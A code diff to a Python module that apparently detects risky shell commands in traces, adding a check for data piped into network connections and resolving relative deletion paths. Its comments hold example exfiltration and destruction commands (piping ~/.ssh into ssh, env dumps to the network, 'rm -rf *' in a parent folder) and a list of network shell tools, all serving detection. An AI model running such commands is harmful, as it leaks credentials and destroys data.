@@ -15,7 +15,8 @@ and finds:
 * ``credential_in_args``: the environment (``env``, ``printenv``,
   ``/proc/self/environ``) piped into a command that reaches the network;
 * ``outbound_upload``: ``git push`` in a command that stages a file that
-  usually holds secrets (``git add .env && git push``);
+  usually holds secrets (``git add .env && git push``), and a pipe into a
+  connection (``… | ssh host 'cat > f'``, ``… | nc host port``);
 * what the one-liners do (:mod:`rematch_trace.security.oneliners`), their
   shell strings read again through ``nested``.
 """
@@ -32,6 +33,8 @@ from rematch_trace.security.shell import FETCHERS, Cmd, Reading
 #: Commands that reach the network (a pipe into one sends its input out).
 NETWORK = FETCHERS | frozenset(("nc", "ncat", "netcat", "socat", "ssh", "scp", "sftp", "ftp", "telnet", "openssl",
                                 "rsync", "aws", "gsutil", "gcloud", "az", "rclone", "gh"))
+#: Commands that send what is piped into them to another host.
+_PIPE_SENDERS = frozenset(("ssh", "nc", "ncat", "netcat", "socat", "telnet", "openssl"))
 _ENV_DUMPS = frozenset(("env", "printenv", "set", "export", "declare", "typeset"))
 _ENVIRON_FILES = ("/proc/self/environ", "/proc/1/environ")
 
@@ -77,7 +80,8 @@ def judge_at(target: str, cwd: str | None, roots: tuple[str, ...]) -> str | None
     joined = os.path.normpath(os.path.join(cwd, target.rstrip("/") or "."))
     if target.endswith(("/*", "*")) and not joined.endswith("*"):
         joined += "/*"
-    return judge_target(joined, roots, moved=not joined.startswith(("/", "~")))
+    # A relative folder is known relative to the session's: `cd .. && rm -rf *` deletes the repository's parent.
+    return judge_target(joined, roots, moved=False)
 
 
 def _sensitive_staged(reading: Reading, sensitive: Callable[[str], bool]) -> bool:
@@ -108,6 +112,9 @@ def reading_features(reading: Reading, roots: tuple[str, ...], sensitive: Callab
             found |= what
         if c.name == "git" and c.args[:1] == ["push"]:
             pushes = True
+        if c.name in _PIPE_SENDERS and c.prev is not None:
+            # `tar cz ~/.ssh | ssh host 'cat > k'`: what is piped into a connection goes out.
+            found |= {"outbound_upload", "network_egress"}
         if c.name in NETWORK and c.prev is not None:
             p: Cmd | None = c.prev
             hops = 0
